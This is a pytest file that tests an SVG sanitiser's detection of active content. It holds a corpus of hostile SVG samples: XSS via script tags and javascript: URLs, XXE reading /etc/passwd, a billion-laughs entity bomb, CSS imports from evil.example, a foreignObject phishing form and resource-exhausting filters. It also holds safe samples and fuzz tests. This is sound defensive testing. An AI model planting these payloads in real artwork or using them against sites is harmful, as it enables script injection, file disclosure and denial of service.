"""Hostile SVG artwork: :func:`badgekiln.formats.svgsafety.find_active_content` against a corpus.

Every hostile sample must be reported (with a reason that says why), the example artwork and
the usual output of drawing programs must pass, and the scanner itself must never expand an
entity, touch the network or raise.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from conftest import REPO, SVG
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from badgekiln.errors import SourceLocation
from badgekiln.formats.baking import bake_svg
from badgekiln.formats.svgsafety import find_active_content, unsafe_svg_diagnostics

NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'


def svg(body: str, root_attributes: str = "", prolog: str = "") -> bytes:
    return f'{prolog}<svg {NS} viewBox="0 0 10 10"{root_attributes}>{body}</svg>\n'.encode()


# (sample, a word the reason must contain)
HOSTILE = {
    "script": (svg("<script>alert(document.domain)</script>"), "<script>"),
    "script-cdata": (svg("<script><![CDATA[alert(1)]]></script>"), "<script>"),
    "script-external": (svg('<script xlink:href="https://evil.example/x.js"/>'), "<script>"),
    "script-xhtml-ns": (svg('<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>'), "<script>"),
    "script-uppercase": (svg("<SCRIPT>alert(1)</SCRIPT>"), "<SCRIPT>"),
    "onload-root": (svg("", ' onload="alert(1)"'), "onload"),
    "onclick-nested": (svg('<g><rect width="5" height="5" onclick="alert(1)"/></g>'), "onclick"),
    "onmouseover-mixed-case": (svg('<circle r="3" OnMouseOver="alert(1)"/>'), "OnMouseOver"),
    "handler-in-other-ns": (svg('<rect xmlns:x="urn:x" x:onclick="alert(1)"/>'), "onclick"),
    "href-javascript": (svg('<a href="javascript:alert(1)"><text>x</text></a>'), "javascript:"),
    "xlink-href-javascript": (svg('<a xlink:href="javascript:alert(1)"><text>x</text></a>'), "javascript:"),
    "href-javascript-obfuscated": (
        svg('<a href=" &#x20;Jav&#x09;aScRiPt&#x0A;:alert(1)"><text>x</text></a>'),
        "javascript:",
    ),
    "href-vbscript": (svg('<a href="vbscript:msgbox(1)"><text>x</text></a>'), "vbscript:"),
    "href-data-html": (
        svg('<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"><text>x</text></a>'),
        "data:",
    ),
    "image-data-svg": (svg('<image href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" width="5" height="5"/>'), "data:"),
    "image-https": (svg('<image href="https://tracker.example/pixel.png" width="5" height="5"/>'), "external"),
    "image-http-xlink": (svg('<image xlink:href="http://tracker.example/p.png" width="5" height="5"/>'), "external"),
    "use-protocol-relative": (svg('<use href="//evil.example/sprite.svg#icon"/>'), "another site"),
    "use-backslashes": (svg('<use href="\\\\evil.example\\sprite.svg#icon"/>'), "another site"),
    "a-https-link": (svg('<a href="https://login.evil.example/"><text>Sign in</text></a>'), "external"),
    "fe-image-external": (svg('<filter id="f"><feImage href="https://evil.example/x.png"/></filter>'), "external"),
    "foreign-object": (
        svg(
            '<foreignObject width="10" height="10"><div xmlns="http://www.w3.org/1999/xhtml">'
            '<form action="https://evil.example/"><input name="password"/></form></div>'
            "</foreignObject>"
        ),
        "<foreignObject>",
    ),
    "iframe": (svg('<iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"/>'), "<iframe>"),
    "embed": (svg('<embed src="https://evil.example/x.swf"/>'), "<embed>"),
    "object": (svg('<object data="https://evil.example/x.html"/>'), "<object>"),
    "xhtml-element": (svg('<h:div xmlns:h="http://www.w3.org/1999/xhtml">hi</h:div>'), "HTML"),
    "xhtml-meta-refresh": (
        svg('<meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=https://evil.example/"/>'),
        "<meta>",
    ),
    "svg-tiny-handler": (svg('<handler type="application/ecmascript">alert(1)</handler>'), "<handler>"),
    "billion-laughs": (
        b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;">'
        b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">]>' + svg("<text>&d;</text>"),
        "DOCTYPE",
    ),
    "external-entity": (
        b'<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>' + svg("<text>&xxe;</text>"),
        "DOCTYPE",
    ),
    "external-dtd": (
        b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://evil.example/svg11.dtd">' + svg(""),
        "DOCTYPE",
    ),
    "parameter-entity": (
        b'<!DOCTYPE svg [<!ENTITY % p SYSTEM "https://evil.example/p.dtd"> %p;]>' + svg(""),
        "DOCTYPE",
    ),
    "undeclared-entity": (svg("<text>&secret;</text>"), "well-formed"),
    "style-import": (svg("<style>@import url(https://evil.example/x.css);</style>"), "@import"),
    "style-import-string": (svg('<style>@import "https://evil.example/x.css";</style>'), "@import"),
    "style-import-escaped": (svg("<style>@\\69mport '//evil.example/x.css';</style>"), "@import"),
    "style-import-comment": (svg("<style>@im/**/port '//evil.example/x.css';</style>"), "@import"),
    "style-url-http": (svg("<style>rect { fill: url(http://evil.example/p.svg#g) }</style>"), "url("),
    "style-url-escaped": (svg("<style>rect { fill: \\75 rl(https://evil.example/p.svg#g) }</style>"), "url("),
    "style-font-face": (
        svg("<style>@font-face { font-family: x; src: url('https://evil.example/f.woff') }</style>"),
        "url(",
    ),
    "style-cdata": (svg("<style><![CDATA[ rect { background: url(//evil.example/x.png) } ]]></style>"), "url("),
    "style-url-unterminated": (svg("<style>rect { fill: url(https://evil.example/p.svg#g</style>"), "url("),
    "style-image-set-string": (
        svg('<style>rect { fill: image-set("https://evil.example/a.png" 1x) }</style>'),
        "external",
    ),
    "style-expression": (svg("<style>rect { width: expression(alert(1)) }</style>"), "expression("),
    "style-attribute-url": (svg('<rect width="5" height="5" style="fill:url(\'https://evil.example/#g\')"/>'), "url("),
    "presentation-attribute-url": (
        svg('<rect width="5" height="5" fill="url(https://evil.example/g.svg#g)"/>'),
        "url(",
    ),
    "filter-attribute-data": (svg('<rect width="5" height="5" filter="url(data:image/svg+xml,x#f)"/>'), "data:"),
    "set-href-javascript": (svg('<a><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a>'), "href"),
    "animate-xlink-href": (
        svg('<a xlink:href="#x"><animate attributeName="xlink:href" values="javascript:alert(1)"/><text>x</text></a>'),
        "href",
    ),
    "set-onclick": (svg('<rect width="5" height="5"><set attributeName="onclick" to="alert(1)"/></rect>'), "onclick"),
    # CSS read as a browser reads it: escapes, comments and strings, in <style> and in every attribute.
    "style-comment-opened-inside-a-string": (
        svg('<style>rect { content: "/*" } rect { fill: url(https://evil.example/p.svg#g) } /* */</style>'),
        "url(",
    ),
    "style-escaped-quote-in-string": (
        svg('<style>rect { content: "a\\"/*" } rect { fill: url(https://evil.example/p.svg#g) } /**/</style>'),
        "url(",
    ),
    "presentation-attribute-escaped-url": (
        svg('<rect width="5" height="5" fill="u\\72l(https://evil.example/g#g)"/>'),
        "url(",
    ),
    "presentation-attribute-comment-url": (
        svg('<rect width="5" height="5" fill="u/**/rl(//evil.example/g#g)"/>'),
        "url(",
    ),
    "presentation-attribute-escaped-scheme": (
        svg('<rect width="5" height="5" filter="url(\\68ttps://evil.example/f#f)"/>'),
        "external",
    ),
    "animate-to-escaped-url": (
        svg('<rect width="5" height="5"><animate attributeName="fill" to="\\75 rl(https://evil.example/g#g)"/></rect>'),
        "url(",
    ),
    "style-url-quotes-whitespace-escapes": (
        svg('<rect width="5" height="5" style="fill: URL(  \'\\68ttps://evil.example/g#g\'  )"/>'),
        "url(",
    ),
    "style-image-set-url": (svg("<style>rect { fill: image-set(url(https://evil.example/a.png) 1x) }</style>"), "url("),
    "style-webkit-image-set-escaped": (
        svg("<style>rect { fill: -webkit-image-set('\\2f/evil.example/a.png' 1x) }</style>"),
        "another site",
    ),
    "style-expression-escaped": (
        svg('<rect width="5" height="5" style="width: expr\\65ssion(alert(1))"/>'),
        "expression(",
    ),
    "style-expression-whitespace": (
        svg('<rect width="5" height="5" style="width: expression (alert(1))"/>'),
        "expression(",
    ),
    "style-import-escaped-uppercase": (svg('<style>@IM\\50ORT "https://evil.example/x.css";</style>'), "@import"),
    # XML character references are decoded before CSS or URLs are read (by expat, as by browsers).
    "style-charref-makes-css-escape": (
        svg("<style>rect { fill: u&#x5c;72l(https://evil.example/g#g) }</style>"),
        "url(",
    ),
    "style-charref-url": (svg("<style>rect { fill: &#x75;rl(https://evil.example/g#g) }</style>"), "url("),
    "style-attribute-charref-javascript": (
        svg('<rect width="5" height="5" style="fill: url(&#x6a;avascript:x)"/>'),
        "script URL",
    ),
    "attribute-charref-javascript": (
        svg('<a xlink:href="&#x6a;&#x61;vascript:alert(1)"><text>x</text></a>'),
        "javascript:",
    ),
    "xml-stylesheet-pi": (
        b'<?xml-stylesheet type="text/css" href="https://evil.example/x.css"?>' + svg(""),
        "xml-stylesheet",
    ),
    "xinclude": (
        svg('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'),
        "XInclude",
    ),
    "xml-base": (svg('<a xml:base="https://evil.example/"><text>x</text></a>'), "external"),
    "not-well-formed": (b"<svg><script>alert(1)</svg>", "well-formed"),
    "truncated": (svg("<circle r='1'/>")[:-12], "well-formed"),
    "empty": (b"", "well-formed"),
    "html-not-svg": (b'<html xmlns="http://www.w3.org/1999/xhtml"><body onload="alert(1)"/></html>', "not <svg>"),
    "utf16": ('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'.encode("utf-16"), "UTF-8"),
    "utf7-declared": (b'<?xml version="1.0" encoding="UTF-7"?>' + svg("<text>+ADw-script+AD4-</text>"), "UTF"),
    # (a fuzz test: resvg crashed the build on 300 nested groups, and a 160-byte filter held it for minutes)
    "nested-deep": (svg("<g>" * 65 + '<circle r="1"/>' + "</g>" * 65), "nested more than 64 deep"),
    "morphology": (svg('<filter id="f"><feMorphology radius="100"/></filter><rect filter="url(#f)"/>'), "feMorphology"),
    "convolve-large": (
        svg('<filter id="f"><feConvolveMatrix order="30" kernelMatrix="1"/></filter>'),
        "order '30', more than 5",
    ),
    "turbulence-octaves": (svg('<filter id="f"><feTurbulence numOctaves="50"/></filter>'), "numOctaves '50'"),
    # (a review of those limits: chained <use> nested 5 x 50 groups past them and crashed resvg; many
    # uses or filtered elements multiplied a bounded cost)
    "use-chain": (
        svg(
            '<defs><g id="a">'
            + "<g>" * 50
            + '<circle r="1"/>'
            + "</g>" * 50
            + '</g><g id="b">'
            + "<g>" * 50
            + '<use href="#a"/>'
            + "</g>" * 50
            + '</g></defs><use href="#b"/>'
        ),
        "draws #b, which holds a <use> itself",
    ),
    "uses-many": (svg('<defs><circle id="c" r="1"/></defs>' + '<use href="#c"/>' * 65), "more than 64 <use>"),
    "filtered-many": (
        svg('<filter id="f"><feGaussianBlur stdDeviation="1"/></filter>' + '<rect filter="url(#f)"/>' * 9),
        "more than 8 elements are drawn through a filter",
    ),
}


@pytest.mark.parametrize("sample, says", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_svg_is_reported(sample, says):
    reasons = find_active_content(sample)
    assert reasons, "not reported"
    assert any(says.lower() in r.lower() for r in reasons), reasons
    assert all(r.startswith("line ") for r in reasons), reasons


def test_every_problem_is_reported_with_its_line():
    sample = (
        f'<svg {NS}>\n<script>alert(1)</script>\n<a href="javascript:x"><text>t</text></a>\n'
        '<image href="https://evil.example/p.png"/>\n<rect onclick="x"/>\n</svg>'
    ).encode()
    reasons = find_active_content(sample)
    assert [r.split(":")[0] for r in reasons] == ["line 2", "line 3", "line 4", "line 5"], reasons


def _example_artwork() -> list[Path]:
    found = sorted((REPO / "site_src" / "assets").rglob("*.svg")) + sorted((REPO / "docs").rglob("*.svg"))
    assert len(found) >= 5
    return found


@pytest.mark.parametrize("path", _example_artwork(), ids=lambda p: p.name)
def test_example_artwork_is_safe(path):
    assert find_active_content(path.read_bytes()) == []


SAFE = {
    "minimal": SVG,
    "gradient-and-local-refs": svg(
        '<defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/>'
        '</linearGradient><path id="p" d="M0 0h5v5z"/></defs>'
        '<rect width="5" height="5" fill="url(#g)" style="stroke:url(#g);opacity:.5"/>'
        '<use href="#p"/><use xlink:href="#p"/><a href="#p"><text>x</text></a>'
    ),
    "style-element": svg(
        "<style>.a { fill: url(#g) } @namespace svg url(http://www.w3.org/2000/svg);"
        " /* see https://example.org/brand */</style><rect class='a' width='5' height='5'/>"
    ),
    "embedded-png": svg('<image width="5" height="5" href="data:image/png;base64,iVBORw0KGgoAAAANSUhEUg=="/>'),
    "embedded-jpeg-xlink": svg('<image width="5" height="5" xlink:href="data:image/jpeg;base64,/9j/4AAQ"/>'),
    "relative-image": svg('<image width="5" height="5" href="../shared/texture.png"/>'),
    "inkscape-export": (
        b'<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n<!-- Created with Inkscape -->\n'
        + svg(
            '<sodipodi:namedview id="base" inkscape:zoom="1"/><metadata><rdf:RDF><cc:Work '
            'rdf:about=""><dc:format>image/svg+xml</dc:format><dc:type rdf:resource='
            '"http://purl.org/dc/dcmitype/StillImage"/></cc:Work></rdf:RDF></metadata>'
            '<g inkscape:label="Layer 1" inkscape:groupmode="layer"><circle r="4"/></g>',
            ' xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd"'
            ' xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"'
            ' xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"'
            ' xmlns:cc="http://creativecommons.org/ns#"'
            ' xmlns:dc="http://purl.org/dc/elements/1.1/"',
        )
    ),
    "animation-of-geometry": svg(
        '<circle r="1"><animate attributeName="r" values="1;4;1" dur="2s" repeatCount="indefinite"/></circle>'
    ),
    "text-mentions-script": svg(
        "<title>How to write &lt;script&gt; tags: onload= and javascript: explained</title>"
        "<desc>@import url(https://example.org) is text here</desc>"
    ),
    "utf8-bom": b"\xef\xbb\xbf" + SVG,
    "filters-of-bounded-cost": svg(
        '<filter id="f"><feGaussianBlur stdDeviation="2"/><feConvolveMatrix order="3" kernelMatrix="0 1 0 1 1 1 0 1 0"/>'
        '<feTurbulence baseFrequency="0.05" numOctaves="4"/></filter>' + "<g>" * 62 + '<circle r="1"/>' + "</g>" * 62
    ),
    "css-look-alikes": svg(
        '<style>.a { content: "/* url(https://example.org) is text */" } '
        ".b { fill: url( \"#g\" ) } .c { background: url('texture.png') }</style>"
        '<g id="layer (1)" font-family="\'Noto Sans\', sans-serif" aria-label="it\'s @home">'
        '<rect class="a b c" width="5" height="5" fill="u\\72l(#g)"/></g>'
    ),
}


@pytest.mark.parametrize("sample", SAFE.values(), ids=SAFE.keys())
def test_ordinary_artwork_is_safe(sample):
    assert find_active_content(sample) == []


@pytest.mark.parametrize("path", _example_artwork()[:2], ids=lambda p: p.name)
def test_baking_a_hostile_assertion_keeps_artwork_safe(path):
    payload = json.dumps(
        {
            "narrative": "]]><script>alert(1)</script><![CDATA[ <a href='javascript:x'>",
            "name": '"><svg onload=alert(1)>',
        }
    )
    baked = bake_svg(path.read_bytes(), assertion_json=payload, verify="https://badges.example.org/a.json")
    assert find_active_content(baked) == []


def test_diagnostics_are_located_and_coded():
    found = unsafe_svg_diagnostics(HOSTILE["script"][0], "assets/x.svg", SourceLocation("badges/x.yaml", 3, 8))
    assert len(found) == 1
    assert found[0].render().startswith("badges/x.yaml:3:8: error[unsafe-svg]: image 'assets/x.svg' is not safe")
    assert unsafe_svg_diagnostics(SVG, "assets/x.svg", SourceLocation("badges/x.yaml", 3, 8)) == []


def test_billion_laughs_is_refused_before_expansion():
    # 10 levels of 10: a parser that expanded entities would build 10**10 characters.
    entities = '<!ENTITY e0 "lollollollol">' + "".join(
        f'<!ENTITY e{i} "{("&e" + str(i - 1) + ";") * 10}">' for i in range(1, 10)
    )
    bomb = f"<!DOCTYPE svg [{entities}]>".encode() + svg("<text>&e9;</text>")
    reasons = find_active_content(bomb)
    assert len(reasons) == 1 and "DOCTYPE" in reasons[0]


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=2000))
def test_random_bytes_never_raise(data):
    assert isinstance(find_active_content(data), list)


_TOKENS = st.sampled_from(
    [
        "<svg>",
        "</svg>",
        f"<svg {NS}>",
        "<script>",
        "</script>",
        "<a href='",
        "javascript:",
        "'>",
        "<![CDATA[",
        "]]>",
        "<!DOCTYPE svg [",
        "<!ENTITY a 'x'>",
        "]>",
        "&a;",
        "&#106;",
        "<style>",
        "</style>",
        "url(",
        ")",
        "@import",
        "<!--",
        "-->",
        "<?xml version='1.0'?>",
        " onload='x'",
        "<g>",
        "</g>",
        "<rect/>",
        "\\",
        '"',
        "'",
        "<",
        ">",
        "\x00",
        "\ud7ff",
        "é",
        "<foreignObject>",
        "xlink:href='//x'",
    ]
)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(_TOKENS, max_size=40).map("".join))
def test_random_svg_like_text_never_raises(text):
    reasons = find_active_content(text.encode("utf-8", "surrogatepass"))
    assert isinstance(reasons, list) and all(isinstance(r, str) for r in reasons)


@settings(max_examples=100, deadline=None)
@given(st.sampled_from(sorted(HOSTILE)), st.sampled_from(sorted(SAFE)))
def test_hostile_content_is_found_inside_otherwise_good_artwork(hostile, safe):
    sample, _ = HOSTILE[hostile]
    if not sample.startswith(b"<svg ") or not sample.endswith(b"</svg>\n") or SAFE[safe].startswith((b"<?", b"\xef")):
        return  # prologue attacks (DOCTYPE, PI, BOM) cannot be moved inside another document
    body = sample[sample.index(b">") + 1 : sample.rindex(b"</svg>")]
    root_extra = sample[len(b"<svg ") + len(NS) : sample.index(b">")].replace(b' viewBox="0 0 10 10"', b"")
    good = SAFE[safe]
    head_end = good.index(b">")
    merged = good[:head_end] + root_extra + good[head_end : good.rindex(b"</svg>")] + body + b"</svg>\n"
    assert find_active_content(merged), merged


@pytest.mark.parametrize("encoding", ["UTF-7", "UTF-16", "UTF-32", "ISO-8859-1", "shift_jis", "cp037", "bogus"])
def test_any_declared_encoding_other_than_utf8_is_reported_not_raised(encoding):
    reasons = find_active_content(f'<?xml version="1.0" encoding="{encoding}"?>'.encode() + SVG)
    assert reasons and all(isinstance(r, str) for r in reasons)
